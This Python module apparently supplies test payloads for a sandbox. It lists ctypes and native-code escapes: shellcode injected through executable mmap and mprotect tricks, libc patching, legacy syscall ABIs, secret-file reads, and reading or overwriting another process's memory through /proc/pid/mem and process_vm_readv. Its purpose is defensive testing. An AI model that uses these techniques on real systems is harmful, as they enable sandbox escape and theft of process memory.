"""Below Python: native calls, machine code, memory of this process and of others.

The machine code is for x86_64; elsewhere those payloads fail in the control too.
"""

from attacks.payload import LIBC, PRINT_MARKER, Payload

MACHINE_CODE = """\
import struct
path = ctypes.create_string_buffer(b'@OUT@')
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
# mov eax, 83; mov rdi, path; mov esi, 0700; syscall; ret
code = b'\\xb8\\x53\\0\\0\\0\\x48\\xbf' + struct.pack('<Q', ctypes.addressof(path))
code += b'\\xbe\\xc0\\x01\\0\\0\\x0f\\x05\\xc3'
call = lambda page: ctypes.CFUNCTYPE(ctypes.c_long)(page)()
"""

MEMORY_CORRUPTION = (
    Payload(
        "ctypes-system",
        "memory-corruption",
        "file",
        LIBC + "libc.system(b'touch @OUT@')",
    ),
    Payload(
        "ctypes-read",
        "memory-corruption",
        "leak",
        LIBC + "b = ctypes.create_string_buffer(99)\n"
        "libc.read(libc.open(b'@SECRET@', 0), b, 99)\nprint(b.value)",
    ),
    Payload(
        "raw-mkdir",
        "memory-corruption",
        "file",
        LIBC + "import platform\n"
        "number = 83 if platform.machine() == 'x86_64' else None\n"
        "libc.syscall(number, b'@OUT@', 0o700) if number else libc.mkdir(b'@OUT@', 0o700)",
    ),
    Payload(
        "python-api",
        "memory-corruption",
        "file",
        "import ctypes\n"
        "ctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('touch @OUT@')\")",
    ),
    Payload(
        "executable-memory",
        "memory-corruption",
        "marker",
        "import mmap\n"
        "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "print('attack-reached' + '-its-effect')",
    ),
    Payload(
        "make-executable",
        "memory-corruption",
        "marker",
        LIBC + "libc.mmap.restype = ctypes.c_void_p\n"
        "page = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x22, -1, ctypes.c_long(0))\n"
        "failed = libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(4096), 5)\n"
        "print('attack-reached' + '-its-effect' if not failed else 'no')",
    ),
    Payload("null-pointer", "memory-corruption", "lost", "import ctypes\nctypes.string_at(1)"),
    Payload(
        "own-memory-file",
        "memory-corruption",
        "marker",
        "import io\nio.open('/proc/self/mem', 'r+b', 0)\nprint('attack-reached' + '-its-effect')",
    ),
    Payload(
        "machine-code",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
ctypes.memmove(page, code, len(code))
call(page)""",
    ),
    Payload(
        "written-then-executable",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
page = libc.mmap(None, 4096, 3, 0x22, -1, 0)
ctypes.memmove(page, code, len(code))
if libc.mprotect(page, 4096, 5) == 0: call(page)""",
    ),
    Payload(
        "executable-by-key",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
page = libc.mmap(None, 4096, 3, 0x22, -1, 0)
ctypes.memmove(page, code, len(code))
if libc.syscall(329, ctypes.c_void_p(page), ctypes.c_size_t(4096), 5, -1) == 0: call(page)""",
    ),
    Payload(
        "executable-by-personality",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
if libc.personality(0x0400000) >= 0 and libc.personality(0xffffffff) & 0x0400000:
    page = libc.mmap(None, 4096, 3, 0x22, -1, 0)
    ctypes.memmove(page, code, len(code))
    call(page)""",
    ),
    Payload(
        "two-mappings-of-one-memory",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
import os
fd = os.memfd_create('x')
os.truncate(fd, 4096)
writable = libc.mmap(None, 4096, 3, 1, fd, 0)
executable = libc.mmap(None, 4096, 5, 1, fd, 0)
ctypes.memmove(writable, code, len(code))
call(executable)""",
    ),
    Payload(
        "patched-library",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
at = ctypes.cast(libc.getppid, ctypes.c_void_p).value
if libc.mprotect(at & ~4095, 8192, 7) == 0:
    ctypes.memmove(at, code, len(code))
    libc.getppid()""",
    ),
    Payload(
        "compatible-system-call",
        "memory-corruption",
        "file",
        LIBC
        + MACHINE_CODE
        + """\
page = libc.mmap(None, 4096, 7, 0x62, -1, 0)
ctypes.memmove(page + 2048, b'@OUT@', len(b'@OUT@'))
# push rbx; mov eax, 39; mov ebx, path; mov ecx, 0700; int 0x80; pop rbx; ret
code = b'\\x53\\xb8\\x27\\0\\0\\0\\xbb' + struct.pack('<I', page + 2048)
code += b'\\xb9\\xc0\\x01\\0\\0\\xcd\\x80\\x5b\\xc3'
ctypes.memmove(page, code, len(code))
call(page)""",
    ),
    Payload(
        "x32-system-call",
        "memory-corruption",
        "file",
        LIBC + "libc.syscall(0x40000000 | 83, b'@OUT@', 0o700)",
    ),
    Payload(
        "victim-memory-by-file",
        "memory-corruption",
        "leak",
        """\
import io
lines = io.open('/proc/@VICTIM@/maps').read().splitlines()
start, end = next(l.split()[0].split('-') for l in lines if l.endswith('[stack]'))
memory = io.open('/proc/@VICTIM@/mem', 'rb', 0)
memory.seek(int(start, 16))
print(memory.read(int(end, 16) - int(start, 16)))""",
    ),
    Payload(
        "victim-memory-by-call",
        "memory-corruption",
        "leak",
        LIBC
        + """\
import io
lines = io.open('/proc/@VICTIM@/maps').read().splitlines()
start, end = next(l.split()[0].split('-') for l in lines if l.endswith('[stack]'))
start, size = int(start, 16), int(end, 16) - int(start, 16)
class Piece(ctypes.Structure):
    _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(size)
here, there = Piece(ctypes.addressof(buffer), size), Piece(start, size)
libc.process_vm_readv(@VICTIM@, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
print(buffer.raw)""",
    ),
    Payload(
        "victim-memory-overwritten",
        "memory-corruption",
        "victim",
        """\
import io
lines = io.open('/proc/@VICTIM@/maps').read().splitlines()
start, end = next(l.split()[0].split('-') for l in lines if l.endswith('[stack]'))
memory = io.open('/proc/@VICTIM@/mem', 'r+b', 0)
memory.seek(int(start, 16))
memory.write(bytes(int(end, 16) - int(start, 16)))""",
    ),
    Payload(
        "overwritten-none",
        "memory-corruption",
        "lost",
        """\
import ctypes
ctypes.memset(id(None), 0, 16)
[None] * 5""",
    ),
    Payload(
        "made-up-bytecode",
        "memory-corruption",
        "lost",
        """\
def f(): pass
f.__code__ = f.__code__.replace(co_code=bytes([100, 255] * 4 + [83, 0]), co_stacksize=9)
f()
f().x""",
    ),
    Payload(
        "wild-jump",
        "memory-corruption",
        "lost",
        "import ctypes\nctypes.CFUNCTYPE(None)(0xdead000)()",
    ),
    Payload(
        "loaded-library",
        "memory-corruption",
        "marker",
        """\
import ctypes
ctypes.CDLL('libutil.so.1')
"""
        + PRINT_MARKER,
    ),
    Payload(
        "fault-handling",
        "memory-corruption",
        "marker",
        LIBC + "if libc.syscall(323, 0) < 0: raise OSError\n" + PRINT_MARKER,
    ),
    Payload(
        "kernel-ring",
        "memory-corruption",
        "marker",
        LIBC
        + "if libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0: raise OSError\n"
        + PRINT_MARKER,
    ),
)
